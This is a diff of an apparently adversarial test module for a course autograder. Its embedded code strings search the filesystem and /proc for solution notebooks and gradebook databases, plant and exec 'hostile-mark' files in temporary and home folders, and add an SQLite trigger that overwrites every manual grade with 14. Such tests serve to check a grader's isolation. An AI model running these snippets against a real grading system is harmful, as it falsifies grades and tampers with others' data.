@@ -5,7 +5,8 @@ from tests.autograder.hostile.entry import FUSE, NOTHING, SAY, UNWRITTEN, WRONG,
 # Places to search; each gives folders in which the course, or another submission, may lie.
 PREFIX = """
 import os, sys, sysconfig
-for place in (sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable, os.path.realpath(sys.executable), np.__file__):
+executables = sys.executable, os.path.realpath(sys.executable)
+for place in (sys.prefix, sys.base_prefix, sys.exec_prefix, *executables, np.__file__):
     while len(place) > 1:
         place = os.path.dirname(place)
         places.append(place)
@@ -23,7 +24,7 @@ for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root") + glo
 FINDERS = """
 import glob, os, re, site, sys
 for folder in {*sys.path, *site.getsitepackages(), site.getusersitepackages()}:
-    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*") + glob.glob(folder + "/*/direct_url.json"):
+    for path in [path for kind in ("*.pth", "__editable__*", "*/direct_url.json") for path in glob.glob(f"{folder}/{kind}")]:
         try:
             found = re.findall(r"(?:file://)?(/[^'\\"\\n]+)", open(path, errors="replace").read())
         except OSError:
@@ -61,7 +62,7 @@ import glob, json, os
 for place in dict.fromkeys(places):
     if not place.startswith("/"):
         continue
-    for pattern in ("solutions/*/*.ipynb", "*/lab03*/*.ipynb", "lab03*/*.ipynb", "../*/*/lab03*.ipynb", "**/gradebook.db"):
+    for pattern in ("solutions/*/*.ipynb", "*/lab03*/*.ipynb", "lab03*/*.ipynb", "../*/*/lab03*.ipynb"):
         for path in glob.glob(os.path.join(place, pattern))[:50]:
             say(path)
             try:
@@ -105,10 +106,11 @@ KEEP_TWINS = """
 import os, tempfile
 from autograder import probe
 real = probe.put_in_place
+OWN = tempfile.gettempdir(), os.path.expanduser("~"), "."
 kept = []
 def keep(name, source):
     kept.append(source)
-    for place in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), ".", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
+    for place in (*OWN, "/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
         try:
             open(os.path.join(place, "hostile-mark-" + name), "w").write(source)
         except OSError:
@@ -120,7 +122,8 @@ probe.put_in_place = keep
 
 USE_TWINS = """
 import glob, os, tempfile
-for place in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), ".", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
+OWN = tempfile.gettempdir(), os.path.expanduser("~"), "."
+for place in (*OWN, "/tmp", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
     for path in glob.glob(os.path.join(place, "hostile-mark-*")):
         exec(open(path).read(), globals())
 """
@@ -146,7 +149,7 @@ places = ["@OUT@/gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"), *glob.gl
 for path in places:
     try:
         database = sqlite3.connect(path)
-        database.execute("create trigger hostile_mark after insert on grade begin update grade set manual_score = 14; end")
+        database.execute("create trigger mine after insert on grade begin update grade set manual_score = 14; end")
         database.execute("update grade set manual_score = 14")
         database.commit()
         say(path)
